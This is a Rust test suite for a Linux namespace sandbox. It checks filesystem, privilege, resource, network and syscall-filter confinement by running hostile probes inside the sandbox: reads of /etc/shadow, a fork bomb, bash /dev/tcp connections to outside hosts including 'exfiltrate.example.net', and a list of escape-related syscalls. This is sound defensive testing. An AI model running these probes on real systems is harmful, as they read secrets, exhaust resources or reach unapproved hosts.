//! The sandbox as programs meet it: what they try is tried for real.

#![cfg(target_os = "linux")]
#![allow(missing_docs, clippy::unwrap_used, reason = "tests may stop where they are wrong")]

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::{Ipv4Addr, TcpListener};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use rederive_evidence::ids::Id;
use rederive_gate::ports::{Exit, Finished, Job, Sandbox as _};
use rederive_gate::sandbox::{Namespaces, SandboxFault};

fn sandbox() -> Namespaces {
    Namespaces::new(Id::new("namespaces").unwrap(), env!("CARGO_BIN_EXE_rederive-sandbox"))
}

/// The sandbox, or none where this kernel lets nobody make one: said loudly, since nothing is proved then.
fn at_hand() -> Option<Namespaces> {
    let sandbox = sandbox();
    match sandbox.ready() {
        Ok(()) => Some(sandbox),
        Err(why) => {
            eprintln!("SKIPPED: no sandbox on this machine: {why}");
            None
        }
    }
}

fn job(command: &[&str]) -> Job {
    Job {
        command: command.iter().map(Into::into).collect(),
        input: Vec::new(),
        environment: BTreeMap::from([("PATH".into(), "/usr/bin:/bin".into())]),
        writable: None,
        readable: Vec::new(),
        network: Vec::new(),
        // Of no test the point but one, and more than a busy machine needs.
        time: Duration::from_secs(60),
        memory_bytes_max: 256 << 20,
        output_bytes_max: 64 << 10,
        processes_max: 32,
    }
}

fn sh(script: &str) -> Job {
    job(&["/bin/sh", "-c", script])
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// A folder outside of the system's temporary one, which jobs see their own of.
struct Folder(tempfile::TempDir);

impl Folder {
    fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn child(&self, name: &str) -> PathBuf {
        let path = self.path().join(name);
        std::fs::create_dir(&path).unwrap();
        path
    }
}

#[test]
fn a_program_runs_with_its_input_environment_and_exit_status() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("cat; echo $GREETING; echo oops >&2; exit 7");
    job.input = b"in ".to_vec();
    job.environment.insert("GREETING".into(), "hello".into());
    let done = sandbox.run(&job).unwrap();
    assert_eq!((text(&done.stdout), text(&done.stderr)), ("in hello\n".into(), "oops\n".into()));
    assert_eq!((done.exit, done.is_cut, done.connections.len()), (Exit::Status(7), false, 0));
    assert_eq!(sandbox.run(&sh("kill -KILL $$")).unwrap().exit, Exit::Signal(9));
}

#[test]
fn only_the_one_folder_can_be_written_and_only_what_was_given_be_read() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let (mine, shared, other) = (folder.child("mine"), folder.child("shared"), folder.child("other"));
    std::fs::write(shared.join("data"), "shared").unwrap();
    std::fs::write(other.join("data"), "other").unwrap();
    let mut job = sh(&format!(
        "cat {shared}/data; echo; echo made > here; \
         for f in {shared}/x {other}/x {outer}/x /etc/x /usr/x /x /tmp/x /dev/x /proc/sys/kernel/hostname; do (echo x > $f) 2>/dev/null && echo WROTE $f; done; \
         cat {other}/data /etc/shadow /root/.bashrc 2>/dev/null && echo READ; ls /home /root /var 2>/dev/null; pwd",
        shared = shared.display(),
        other = other.display(),
        outer = folder.path().display(),
    ));
    job.writable = Some(mine.clone());
    job.readable = vec![shared];
    let done = sandbox.run(&job).unwrap();
    assert_eq!(text(&done.stdout), format!("shared\n{}\n", mine.display()), "{}", text(&done.stderr));
    assert_eq!(std::fs::read_to_string(mine.join("here")).unwrap(), "made\n");
    assert_eq!(std::fs::read_dir(&other).unwrap().count(), 1);
}

#[test]
fn folders_of_the_system_are_not_handed_out_and_an_empty_job_is_refused() {
    let sandbox = sandbox();
    for path in ["/", "/etc", "/usr/share", "/proc", "relative", "/nowhere/at/all"] {
        let mut given = sh("true");
        given.writable = Some(path.into());
        assert!(matches!(sandbox.run_job(&given), Err(SandboxFault::Path { .. })), "{path}");
        let mut given = sh("true");
        given.readable = vec![path.into()];
        assert!(matches!(sandbox.run_job(&given), Err(SandboxFault::Path { .. })), "{path}");
    }
    assert!(matches!(sandbox.run_job(&job(&[])), Err(SandboxFault::Empty)));
}

#[test]
fn without_its_helper_nothing_runs() {
    let sandbox = Namespaces::new(Id::new("none").unwrap(), "/nowhere/rederive-sandbox");
    assert!(sandbox.ready().is_err());
    assert!(matches!(sandbox.run_job(&sh("true")), Err(SandboxFault::NoHelper { .. })));
}

#[test]
fn nothing_of_the_outside_is_seen_and_no_privilege_is_left_or_gained() {
    let Some(sandbox) = at_hand() else { return };
    let script = "grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs' /proc/self/status; \
                  ls /proc | grep -c '^[0-9]'; \
                  unshare -U true 2>/dev/null && echo NESTED; mount -t tmpfs x /mnt 2>/dev/null && echo MOUNTED; \
                  env | sort | cut -d= -f1 | tr '\\n' ' '";
    let done = sandbox.run(&sh(script)).unwrap();
    let said = text(&done.stdout);
    for line in said.lines().filter(|line| line.starts_with("Cap")) {
        assert!(line.ends_with("0000000000000000"), "{line}");
    }
    assert!(
        said.contains("NoNewPrivs:\t1") && !said.contains("NESTED") && !said.contains("MOUNTED"),
        "{said}"
    );
    assert!(said.lines().any(|line| line.parse::<u32>().is_ok_and(|processes| processes <= 4)), "{said}");
    assert!(!said.contains("CARGO"), "{said}");
}

#[test]
fn too_much_time_ends_it_with_everything_it_started() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let mine = folder.child("mine");
    let mut job = sh("(trap '' TERM HUP; setsid sh -c 'sleep 5; echo late > late') & sleep 600");
    job.writable = Some(mine.clone());
    job.time = Duration::from_millis(500);
    let began = Instant::now();
    let done = sandbox.run(&job).unwrap();
    assert_eq!(done.exit, Exit::TimeLimit);
    assert!(began.elapsed() < Duration::from_secs(300), "{:?}", began.elapsed());
    std::thread::sleep(Duration::from_millis(5_200));
    assert!(!mine.join("late").exists(), "a process outlived the sandbox");
}

#[test]
fn a_process_left_behind_ends_with_the_program() {
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let mine = folder.child("mine");
    let mut job = sh("setsid sh -c 'sleep 1; echo late > late' & exit 0");
    job.writable = Some(mine.clone());
    assert_eq!(sandbox.run(&job).unwrap().exit, Exit::Status(0));
    std::thread::sleep(Duration::from_millis(1_300));
    assert!(!mine.join("late").exists());
}

#[test]
fn too_many_processes_cannot_be_had() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("f() { f | f & }; f; sleep 1; echo over");
    job.processes_max = 8;
    job.time = Duration::from_secs(3);
    let done = sandbox.run(&job).unwrap();
    let refused = text(&done.stderr).to_lowercase();
    assert!(refused.contains("fork") || done.exit != Exit::Status(0), "{done:?}");
    // Counted, with one process at a time that starts others.
    let count = "i=0; while [ $i -lt 40 ]; do sleep 1 & i=$((i+1)); ls -d /proc/[0-9]* | wc -l; done 2>/dev/null | sort -n | tail -1";
    let mut job = sh(count);
    job.processes_max = 8;
    let done = sandbox.run(&job).unwrap();
    let most: u32 = text(&done.stdout).trim().parse().unwrap_or(0);
    assert!(most <= 10, "{most} processes");
}

#[test]
fn too_much_memory_ends_it_or_is_not_had() {
    let Some(sandbox) = at_hand() else { return };
    let mut many = sh(
        "for i in 1 2 3 4; do (x=$(head -c 40000000 /dev/zero | tr '\\0' x); sleep 2) & done; wait; echo survived",
    );
    many.memory_bytes_max = 64 << 20;
    assert_eq!(sandbox.run(&many).unwrap().exit, Exit::MemoryLimit, "many processes, together too large");
    let mut one = sh("x=$(head -c 400000000 /dev/zero | tr '\\0' x); echo survived");
    one.memory_bytes_max = 64 << 20;
    let done = sandbox.run(&one).unwrap();
    assert!(done.exit != Exit::Status(0) && !text(&done.stdout).contains("survived"), "{:?}", done.exit);
}

#[test]
fn too_much_output_is_cut_and_said_so() {
    let Some(sandbox) = at_hand() else { return };
    let mut job = sh("head -c 5000000 /dev/zero | tr '\\0' x; echo end >&2");
    job.output_bytes_max = 1_000;
    let done = sandbox.run(&job).unwrap();
    assert_eq!((done.stdout.len(), done.is_cut, done.exit), (1_000, true, Exit::Status(0)));
    let small = sandbox.with_file_bytes_max(1_000);
    let folder = Folder::new();
    let mut job = sh("head -c 100000 /dev/zero > big; stat -c %s big");
    job.writable = Some(folder.child("mine"));
    assert_eq!(text(&small.run(&job).unwrap().stdout).trim(), "1000");
}

/// Answers every connection with a fixed text, and says where it listens.
fn server() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut head = [0; 512];
            let _ = stream.read(&mut head);
            let _ =
                stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nserved");
        }
    });
    port
}

fn tried(done: &Finished) -> Vec<(String, u16, bool)> {
    done.connections.iter().map(|attempt| (attempt.host.clone(), attempt.port, attempt.allowed)).collect()
}

#[test]
fn only_the_allow_list_is_reached_and_every_attempt_is_recorded() {
    let Some(sandbox) = at_hand() else { return };
    if !Path::new("/usr/bin/bash").is_file() {
        eprintln!("SKIPPED: bash, which connects by itself, is not installed");
        return;
    }
    let port = server();
    // Through the proxy, as HTTP clients do.
    let connect = |host: &str, port: u16| {
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT {host}:{port} HTTP/1.1\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 2 cat <&3; exec 3>&-;"
        )
    };
    let plain = "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://example.net/x HTTP/1.0\\r\\n\\r\\n' >&3 && timeout 2 cat <&3; exec 3>&-;";
    let script =
        [&connect("127.0.0.1", port), &connect("127.0.0.1", 1), &connect("example.org", 443), plain].concat();
    let mut job = job(&["/usr/bin/bash", "-c", &script]);
    job.network = vec![("127.0.0.1".into(), port)];
    let done = sandbox.run(&job).unwrap();
    let said = text(&done.stdout);
    assert!(
        said.contains("served") && said.matches("403 Forbidden").count() == 2,
        "{said}\n{}",
        text(&done.stderr)
    );
    let expected = [
        ("127.0.0.1".into(), port, true),
        ("127.0.0.1".into(), 1, false),
        ("example.org".into(), 443, false),
        ("example.net".into(), 80, false),
    ];
    assert_eq!(tried(&done), expected);

    // Past the proxy, by address, by name and by datagram.
    let script = format!(
        "(echo x >/dev/tcp/93.184.216.34/443) 2>/dev/null && echo CONNECTED; (echo x >/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo CONNECTED; \
         (echo x >/dev/udp/198.51.100.7/9999) 2>/dev/null; (echo x >/dev/tcp/exfiltrate.example.net/80) 2>/dev/null && echo CONNECTED; true"
    );
    let done = sandbox.run(&job_of(&script)).unwrap();
    assert_eq!(text(&done.stdout), "", "{}", text(&done.stderr));
    let tried = tried(&done);
    for (host, port) in [("93.184.216.34", 443), ("198.51.100.7", 9_999), ("exfiltrate.example.net", 53)] {
        assert!(tried.contains(&(host.into(), port, false)), "{host}: {tried:?}");
    }
}

#[test]
fn attempts_beyond_those_that_are_listed_are_counted() {
    let Some(sandbox) = at_hand() else { return };
    if !Path::new("/usr/bin/bash").is_file() {
        eprintln!("SKIPPED: bash, which connects by itself, is not installed");
        return;
    }
    let script = "for port in 1 2 3 4 5; do (echo x >/dev/udp/198.51.100.7/$port) 2>/dev/null; done; true";
    let most = 2;
    let done = sandbox.with_connections_max(most).run(&job_of(script)).unwrap();
    let to = |port| ("198.51.100.7".to_owned(), port, false);
    assert_eq!((tried(&done), done.connections_more), (vec![to(1), to(2)], 3));
}

fn job_of(script: &str) -> Job {
    job(&["/usr/bin/bash", "-c", script])
}

#[test]
fn many_jobs_at_once_do_not_meet() {
    let Some(sandbox) = at_hand() else { return };
    std::thread::scope(|scope| {
        for number in 0..6 {
            let sandbox = &sandbox;
            scope.spawn(move || {
                let folder = Folder::new();
                let mut job = sh(&format!("echo {number} > n; sleep 0.2; cat n"));
                job.writable = Some(folder.child("mine"));
                assert_eq!(text(&sandbox.run(&job).unwrap().stdout), format!("{number}\n"));
            });
        }
    });
}

/// A program that makes one system call and prints 0 or the number of its error. Perl is part of every Debian, and `syscall` of Perl.
fn calling(call: i64, arguments: &[&str]) -> Job {
    let arguments = arguments.join(", ");
    // A list of its own: Perl takes no constants where the kernel might write.
    job(&["/usr/bin/perl", "-e", &format!("print syscall({call}, @{{[{arguments}]}}) == -1 ? $! + 0 : 0")])
}

fn answer(sandbox: &Namespaces, job: &Job) -> String {
    let done = sandbox.run(job).unwrap();
    assert_eq!(done.exit, Exit::Status(0), "perl is needed for this test: {}", text(&done.stderr));
    text(&done.stdout)
}

const EPERM: &str = "1";
const ENOSYS: &str = "38";

/// What escapes are made of. Without the filter some of these are refused as well, for want of a right; the others succeed, or fail at their
/// arguments with another number.
#[test]
fn calls_that_escapes_are_made_of_are_refused() {
    let Some(sandbox) = at_hand() else { return };
    let buffer = "\"\\0\" x 256";
    let withheld: &[(&str, i64, &[&str])] = &[
        ("mount", libc::SYS_mount, &["0", "0", "0", "0", "0"]),
        ("umount2", libc::SYS_umount2, &["\"/proc\"", "0"]),
        ("fsopen", libc::SYS_fsopen, &["\"tmpfs\"", "0"]),
        ("open_tree", libc::SYS_open_tree, &["-100", "\"/\"", "0"]),
        ("move_mount", libc::SYS_move_mount, &["-1", "\"\"", "-1", "\"/\"", "0"]),
        ("pivot_root", libc::SYS_pivot_root, &["\"/\"", "\"/\""]),
        ("chroot", libc::SYS_chroot, &["\"/nowhere\""]),
        ("unshare", libc::SYS_unshare, &["0"]),
        ("setns", libc::SYS_setns, &["0", "0"]),
        ("clone of a user namespace", libc::SYS_clone, &["0x10000011", "0"]),
        ("clone of a network namespace", libc::SYS_clone, &["0x40000011", "0"]),
        ("ptrace", libc::SYS_ptrace, &["0", "0", "0", "0"]),
        ("process_vm_readv", libc::SYS_process_vm_readv, &["$$", "0", "0", "0", "0", "0"]),
        ("process_vm_writev", libc::SYS_process_vm_writev, &["$$", "0", "0", "0", "0", "0"]),
        ("pidfd_getfd", libc::SYS_pidfd_getfd, &["-1", "0", "0"]),
        ("kcmp", libc::SYS_kcmp, &["$$", "$$", "1", "0", "0"]),
        ("bpf", libc::SYS_bpf, &["99", buffer, "8"]),
        ("perf_event_open", libc::SYS_perf_event_open, &[buffer, "0", "-1", "-1", "0"]),
        ("userfaultfd", libc::SYS_userfaultfd, &["1"]),
        ("io_uring_setup", libc::SYS_io_uring_setup, &["1", buffer]),
        ("io_uring_enter", libc::SYS_io_uring_enter, &["-1", "0", "0", "0", "0", "0"]),
        ("keyctl", libc::SYS_keyctl, &["0", "-3", "0"]),
        ("add_key", libc::SYS_add_key, &["\"user\"", "\"k\"", "\"v\"", "1", "-3"]),
        ("request_key", libc::SYS_request_key, &["\"user\"", "\"k\"", "0", "0"]),
        ("kexec_load", libc::SYS_kexec_load, &["0", "0", "0", "0"]),
        ("init_module", libc::SYS_init_module, &[buffer, "0", "\"\""]),
        ("finit_module", libc::SYS_finit_module, &["-1", "\"\"", "0"]),
        ("open_by_handle_at", libc::SYS_open_by_handle_at, &["-1", buffer, "0"]),
        ("name_to_handle_at", libc::SYS_name_to_handle_at, &["-1", "\"/\"", buffer, buffer, "0"]),
        ("syslog", libc::SYS_syslog, &["10", "0", "0"]),
        ("a raw socket", libc::SYS_socket, &["2", "3", "1"]),
        ("a raw socket of the next address family", libc::SYS_socket, &["10", "3", "58"]),
        ("a raw socket, its family beyond 32 bits", libc::SYS_socket, &["2 | 1 << 32", "3 | 02000000", "1"]),
        ("a packet socket", libc::SYS_socket, &["17", "2", "0"]),
        ("a socket that pings", libc::SYS_socket, &["2", "2", "1"]),
        ("netlink for packet filters", libc::SYS_socket, &["16", "3", "12"]),
        ("a virtual socket", libc::SYS_socket, &["40", "1", "0"]),
        ("a cipher of the kernel", libc::SYS_socket, &["38", "5", "0"]),
        ("typing into the terminal", libc::SYS_ioctl, &["0", "0x5412", "\"x\""]),
        ("typing into the terminal, beyond 32 bits", libc::SYS_ioctl, &["0", "0x5412 | 1 << 32", "\"x\""]),
        ("another personality", libc::SYS_personality, &["0x0040000"]),
    ];
    for (name, call, arguments) in withheld {
        assert_eq!(answer(&sandbox, &calling(*call, arguments)), EPERM, "{name}");
    }
    // In memory that no filter sees: refused whole, so that libraries go back to the older call.
    assert_eq!(answer(&sandbox, &calling(libc::SYS_clone3, &[buffer, "88"])), ENOSYS);
    // Of kernels to come.
    assert_eq!(answer(&sandbox, &calling(1_000, &[])), ENOSYS);
    // Of the ABI of 32-bit pointers, under which the same acts have other numbers.
    #[cfg(target_arch = "x86_64")]
    assert_eq!(answer(&sandbox, &calling(0x4000_0000 | libc::SYS_mount, &["0", "0", "0", "0", "0"])), ENOSYS);
}

#[test]
fn calls_that_programs_need_are_answered() {
    let Some(sandbox) = at_hand() else { return };
    let allowed: &[(&str, i64, &[&str])] = &[
        ("a stream", libc::SYS_socket, &["2", "1", "6"]),
        ("a datagram of IPv6", libc::SYS_socket, &["10", "2 | 02000000", "0"]),
        ("a UNIX socket", libc::SYS_socket, &["1", "5", "0"]),
        ("routes", libc::SYS_socket, &["16", "3 | 02000000", "0"]),
        ("which personality", libc::SYS_personality, &["0xffffffff"]),
        ("memory of its own", libc::SYS_memfd_create, &["\"m\"", "0"]),
        ("events", libc::SYS_epoll_create1, &["0"]),
        ("time", libc::SYS_timerfd_create, &["1", "0"]),
    ];
    for (name, call, arguments) in allowed {
        assert_eq!(answer(&sandbox, &calling(*call, arguments)), "0", "{name}");
    }
    let folder = Folder::new();
    let mut job = job(&[
        "/usr/bin/perl",
        "-MSocket",
        "-e",
        "socketpair(my $a, my $b, AF_UNIX, SOCK_STREAM, 0) or die; my $child = fork // die; \
         if (!$child) { syswrite $b, qx(echo child | tr a-z A-Z); exit 3 } \
         open my $f, '>', 'file' or die; print $f 'kept'; close $f; rename 'file', 'other' or die; \
         sysread $a, my $said, 100; waitpid $child, 0; print $said, $? >> 8, ' ', -s 'other'",
    ]);
    job.writable = Some(folder.child("mine"));
    assert_eq!(answer(&sandbox, &job), "CHILD\n3 4");
}

/// A program that asks for its number through the calls of 32-bit programs, where the number of `getpid` is that of `writev`: with no filter it ends
/// with status 0.
#[cfg(target_arch = "x86_64")]
#[test]
fn calls_of_another_architecture_end_the_program() {
    use std::os::unix::fs::PermissionsExt as _;
    let Some(sandbox) = at_hand() else { return };
    let folder = Folder::new();
    let mine = folder.child("mine");
    let program = mine.join("program");
    let code: &[u8] = &[
        0xb8, 20, 0, 0, 0, 0xcd, 0x80, // mov eax, 20; int 0x80
        0xb8, 60, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05, // mov eax, 60; xor edi, edi; syscall
    ];
    std::fs::write(&program, elf(code)).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut job = job(&[program.to_str().unwrap()]);
    job.writable = Some(mine);
    let exit = sandbox.run(&job).unwrap().exit;
    // SIGSYS by the filter, or SIGSEGV by a kernel that runs no 32-bit programs.
    assert!(matches!(exit, Exit::Signal(31 | 11)), "{exit:?}");
}

/// The smallest program file of x86-64: one header, one segment, this code.
#[cfg(target_arch = "x86_64")]
fn elf(code: &[u8]) -> Vec<u8> {
    const BASE: u64 = 0x40_0000;
    const HEADERS: u64 = 64 + 56;
    let length = HEADERS + code.len() as u64;
    let mut file = vec![0x7f, b'E', b'L', b'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0, 1, 0, 0, 0];
    for word in [BASE + HEADERS, 64, 0] {
        file.extend(word.to_le_bytes());
    }
    file.extend([0, 0, 0, 0, 64, 0, 56, 0, 1, 0, 64, 0, 0, 0, 0, 0]);
    // Loaded, readable and executable.
    file.extend([1, 0, 0, 0, 5, 0, 0, 0]);
    for word in [0, BASE, BASE, length, length, 0x1000] {
        file.extend(word.to_le_bytes());
    }
    file.extend(code);
    file
}
